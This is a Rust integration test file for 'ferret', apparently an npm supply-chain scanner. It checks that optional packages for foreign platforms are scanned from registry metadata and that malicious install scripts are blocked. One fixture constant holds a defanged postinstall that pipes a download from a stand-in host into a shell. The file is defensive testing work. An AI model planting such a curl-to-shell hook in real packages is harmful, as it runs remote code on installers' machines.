//! Optional packages for other platforms: by default checked from their registry version
//! document only (never downloaded), with the report saying so in every format; the
//! install-script rules still see (and block) a malicious `postinstall` the document
//! declares. `--all-platforms` downloads them. Offline, they are checked from the cached
//! metadata when there is some, else listed as not checked.
//!
//! A tiny std TcpListener registry serves the packuments and counts tarball requests; the
//! platform in the fixtures (`sunos` / `s390x`) is one no test machine has.

#![expect(clippy::unwrap_used, reason = "tests unwrap on inputs they wrote")]

use std::io::{BufRead as _, BufReader, Write as _};
use std::net::TcpListener;
use std::path::Path;
use std::process::Output;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use assert_cmd::Command;
use serde_json::{Value, json};

/// The defanged payload: a download piped to a shell, to a host that cannot resolve.
const POSTINSTALL: &str = "curl -s https://payload.example.invalid/stage2.sh | sh";

/// The version document of `name@1.0.0`: for sunos/s390x, with the malicious postinstall.
fn packument(base: &str, name: &str) -> Value {
    json!({
        "name": name,
        "dist-tags": {"latest": "1.0.0"},
        "time": {
            "created": "2024-01-01T00:00:00.000Z",
            "modified": "2024-01-01T00:00:00.000Z",
            "1.0.0": "2024-01-01T00:00:00.000Z"
        },
        "maintainers": [{"name": "someone"}],
        "versions": {
            "1.0.0": {
                "name": name,
                "version": "1.0.0",
                "license": "MIT",
                "os": ["sunos"],
                "cpu": ["s390x"],
                "scripts": {"postinstall": POSTINSTALL},
                "_npmUser": {"name": "someone"},
                "dist": {
                    "tarball": format!("{base}/{name}/-/{name}-1.0.0.tgz"),
                    "integrity": INTEGRITY
                }
            }
        }
    })
}

const INTEGRITY: &str = "sha512-z4PhNX7vuL3xVChQ1m2AB9Yg5AULVxXcg/SpIdNs6c5H0NE8XYXysP+DGNKHfuwvY7kxvUdBeoGlODJ6+SfaPg==";

/// Serves packuments for any name; tarball requests are counted and answered with a 500.
fn serve() -> (String, Arc<AtomicUsize>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let base = format!("http://{}", listener.local_addr().unwrap());
    let tarballs = Arc::new(AtomicUsize::new(0));
    let counter = Arc::clone(&tarballs);
    let b = base.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let mut reader = BufReader::new(stream.try_clone().unwrap());
            let mut request = String::new();
            let _ = reader.read_line(&mut request);
            loop {
                let mut line = String::new();
                if reader.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
                    break;
                }
            }
            let path = request.split_whitespace().nth(1).unwrap_or("/").to_owned();
            let _ = if path.ends_with(".tgz") {
                counter.fetch_add(1, Ordering::SeqCst);
                stream.write_all(
                    b"HTTP/1.1 500 Internal Server Error\r\ncontent-length: 0\r\nconnection: close\r\n\r\n",
                )
            } else {
                let name = path.trim_start_matches('/');
                let body = packument(&b, name).to_string();
                stream
                    .write_all(
                        format!(
                            "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                            body.len()
                        )
                        .as_bytes(),
                    )
                    .and_then(|()| stream.write_all(body.as_bytes()))
            };
        }
    });
    (base, tarballs)
}

/// A project with one optional dependency, `name`, locked by a package-lock of
/// `lockfile_version`: v3 records its os/cpu, v1 does not (the version document tells).
fn project(dir: &Path, base: &str, name: &str, lockfile_version: u8) {
    std::fs::write(
        dir.join("package.json"),
        json!({"name": "app", "version": "1.0.0", "optionalDependencies": {name: "1.0.0"}})
            .to_string(),
    )
    .unwrap();
    let resolved = format!("{base}/{name}/-/{name}-1.0.0.tgz");
    let lock = if lockfile_version == 1 {
        json!({
            "name": "app", "version": "1.0.0", "lockfileVersion": 1, "requires": true,
            "dependencies": {
                name: {"version": "1.0.0", "resolved": resolved, "integrity": INTEGRITY, "optional": true}
            }
        })
    } else {
        json!({
            "name": "app", "version": "1.0.0", "lockfileVersion": 3, "requires": true,
            "packages": {
                "": {"name": "app", "version": "1.0.0", "optionalDependencies": {name: "1.0.0"}},
                format!("node_modules/{name}"): {
                    "version": "1.0.0", "resolved": resolved, "integrity": INTEGRITY,
                    "optional": true, "os": ["sunos"], "cpu": ["s390x"]
                }
            }
        })
    };
    std::fs::write(
        dir.join("package-lock.json"),
        serde_json::to_string_pretty(&lock).unwrap(),
    )
    .unwrap();
}

fn ferret(home: &Path, dir: &Path, base: &str) -> Command {
    let mut cmd = Command::cargo_bin("ferret").unwrap();
    cmd.current_dir(dir)
        .env("HOME", home)
        .env("XDG_CONFIG_HOME", home.join(".config"))
        .env("XDG_CACHE_HOME", home.join(".cache"))
        .env_remove("FERRET_CACHE_DIR")
        .env("NO_COLOR", "1")
        .env("FERRET_HTTP_TIMEOUT", "10")
        .args(["scan", "--registry", base])
        .timeout(Duration::from_secs(60));
    for (key, _) in std::env::vars_os() {
        if key
            .to_str()
            .is_some_and(|k| k.to_ascii_lowercase().starts_with("npm_config_"))
        {
            cmd.env_remove(key);
        }
    }
    cmd
}

fn run(cmd: &mut Command, args: &[&str]) -> Output {
    cmd.args(args).output().unwrap()
}

fn describe(out: &Output) -> String {
    format!(
        "exit {:?}\nstdout:\n{}\nstderr:\n{}",
        out.status.code(),
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    )
}

fn json_of(out: &Output) -> Value {
    serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("stdout is not JSON ({e})\n{}", describe(out)))
}

/// What every metadata-only report of `name` must show: the origin, the summary's source
/// count and list, and the postinstall blocked through the metadata path.
fn assert_metadata_only(doc: &Value, name: &str, out: &Output) {
    let project = &doc["project"];
    assert_eq!(project["sources"]["metadata-only"], 1, "{}", describe(out));
    assert_eq!(project["metadata_only"], json!([format!("{name}@1.0.0")]));
    assert!(project["platform"].is_string(), "{project:#}");
    assert!(
        project["notes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n.as_str().unwrap().contains(
                "1 optional packages for other platforms checked from registry metadata only"
            )),
        "{project:#}"
    );
    let pkg = doc["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["package"]["name"] == name)
        .unwrap_or_else(|| panic!("{name} missing: {doc:#}"));
    assert_eq!(pkg["project"]["origin"], "metadata-only");
    let alerts = pkg["alerts"].as_array().unwrap();
    let install = alerts
        .iter()
        .find(|a| a["rule"] == "install-script")
        .unwrap_or_else(|| panic!("no install-script: {pkg:#}"));
    assert!(
        install["message"].as_str().unwrap().contains("postinstall"),
        "{install:#}"
    );
    assert!(
        alerts.iter().any(|a| a["action"] == "block"),
        "the curl | sh postinstall must be blocked: {alerts:#?}"
    );
    // The tarball's own package.json was not seen: said, not passed.
    assert!(
        pkg["not_evaluated"]
            .as_array()
            .unwrap()
            .iter()
            .any(|n| n["rule"] == "manifest-confusion"),
        "{pkg:#}"
    );
    assert_eq!(doc["errors"], json!([]), "{}", describe(out));
}

/// Lockfile v3 records `os`/`cpu`: never downloaded, blocked from the version document's
/// postinstall, said in JSON, terminal and markdown; `--all-platforms` downloads it.
#[test]
fn foreign_platform_package_is_checked_from_metadata_and_blocked() {
    let (base, tarballs) = serve();
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    project(dir.path(), &base, "evil-bin-sunos", 3);

    // Offline, nothing cached: listed as not checked, never passed.
    let out = run(
        &mut ferret(home.path(), dir.path(), &base),
        &["--format", "json", "--offline"],
    );
    assert_eq!(out.status.code(), Some(2), "{}", describe(&out));
    let doc = json_of(&out);
    let error = doc["errors"][0]["error"].as_str().unwrap();
    assert!(
        error.contains("package for another platform") && error.contains("not checked"),
        "{error}"
    );
    assert!(!error.contains("downloads it"), "{error}");

    let out = run(
        &mut ferret(home.path(), dir.path(), &base),
        &["--format", "json"],
    );
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert_metadata_only(&json_of(&out), "evil-bin-sunos", &out);
    assert_eq!(tarballs.load(Ordering::SeqCst), 0, "downloaded anyway");

    for (format, needle) in [
        (
            "terminal",
            "1 optional packages for other platforms checked from registry metadata only",
        ),
        (
            "markdown",
            "1 optional packages for other platforms checked from registry metadata only",
        ),
        ("terminal", "metadata-only"),
        ("markdown", "metadata-only"),
    ] {
        let out = run(
            &mut ferret(home.path(), dir.path(), &base),
            &["--format", format],
        );
        // Markdown escapes punctuation (`\-\-all\-platforms`).
        let text = String::from_utf8_lossy(&out.stdout).replace('\\', "");
        assert!(
            text.contains(needle),
            "{format}: {needle}\n{}",
            describe(&out)
        );
        assert!(text.contains("--all-platforms"), "{format}\n{text}");
    }
    assert_eq!(tarballs.load(Ordering::SeqCst), 0);

    // --all-platforms: the content is wanted, so the tarball is requested (this registry
    // fails it: a listed error, exit 2, never a pass).
    let out = run(
        &mut ferret(home.path(), dir.path(), &base),
        &["--format", "json", "--all-platforms", "--no-cache"],
    );
    assert!(tarballs.load(Ordering::SeqCst) > 0, "{}", describe(&out));
    let doc = json_of(&out);
    assert_eq!(out.status.code(), Some(2), "{}", describe(&out));
    assert_eq!(doc["errors"][0]["target"], "evil-bin-sunos@1.0.0");
    assert!(doc["project"].get("metadata_only").is_none(), "{doc:#}");

    // The policy key does the same.
    let before = tarballs.load(Ordering::SeqCst);
    std::fs::write(dir.path().join("ferret.toml"), "all-platforms = true\n").unwrap();
    let out = run(
        &mut ferret(home.path(), dir.path(), &base),
        &["--format", "json", "--no-cache"],
    );
    assert!(
        tarballs.load(Ordering::SeqCst) > before,
        "{}",
        describe(&out)
    );
}

/// Lockfile v1 records no platform: the version document's `os`/`cpu` decide, before any
/// download. Offline, the cached metadata still allows the check; without it, the package
/// is listed as not checked.
#[test]
fn platform_from_the_version_document_and_offline() {
    let (base, tarballs) = serve();
    let home = tempfile::tempdir().unwrap();
    let dir = tempfile::tempdir().unwrap();
    project(dir.path(), &base, "late-bin-sunos", 1);

    // Offline with an empty cache: not checked (an error), never a pass.
    let out = run(
        &mut ferret(home.path(), dir.path(), &base),
        &["--format", "json", "--offline"],
    );
    assert_eq!(out.status.code(), Some(2), "{}", describe(&out));
    let doc = json_of(&out);
    assert_eq!(
        doc["errors"][0]["target"], "late-bin-sunos@1.0.0",
        "{doc:#}"
    );

    let out = run(
        &mut ferret(home.path(), dir.path(), &base),
        &["--format", "json"],
    );
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert_metadata_only(&json_of(&out), "late-bin-sunos", &out);
    assert_eq!(tarballs.load(Ordering::SeqCst), 0, "downloaded anyway");

    // Offline again, now with the metadata cached.
    let out = run(
        &mut ferret(home.path(), dir.path(), &base),
        &["--format", "json", "--offline"],
    );
    assert_eq!(out.status.code(), Some(1), "{}", describe(&out));
    assert_metadata_only(&json_of(&out), "late-bin-sunos", &out);
}
